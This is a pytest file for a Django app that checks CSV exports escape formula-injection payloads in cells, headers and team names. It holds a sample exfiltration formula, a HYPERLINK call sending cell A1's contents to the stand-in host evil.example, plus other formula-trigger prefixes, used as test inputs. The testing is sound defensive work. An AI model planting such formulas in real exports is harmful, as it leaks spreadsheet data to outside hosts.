"""Attack: formulas in names reach a spreadsheet through a CSV export."""

import csv
import io

import pytest

from registry.spreadsheet import csv_text, spreadsheet_safe
from tests.analysis.django.conftest import results_csv
from tests.analysis.django.test_results_api import upload

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-0.5", "-0.5"),
        (-0.5, -0.5),
        ("A1", "A1"),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_csv_text_escapes_cells_and_headers():
    text = csv_text([{"=bad": EVIL, "score": 0.5}])
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=bad", "score"],
        ["'" + EVIL, "0.5"],
    ]


def test_analysis_table_export_escapes_formula_team_names(organizer_api, registration):
    def evil_names(frame):
        frame["algorithm"] = frame["algorithm"].replace({"A1": EVIL})
        return frame

    results = upload(
        organizer_api, results_csv(n_cases=10, edit=evil_names), commit=True
    ).json()
    run = organizer_api.post(
        f"/api/v1/results/{results['id']}/analyses/", {}, format="json"
    ).json()
    response = organizer_api.get(f"/api/v1/analyses/{run['id']}/tables/?table=rankings")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    algorithms = {row["algorithm"] for row in rows}
    assert "'" + EVIL in algorithms
    assert EVIL not in algorithms
    assert not any(
        cell.startswith(("=", "+", "@")) for row in rows for cell in row.values()
    )
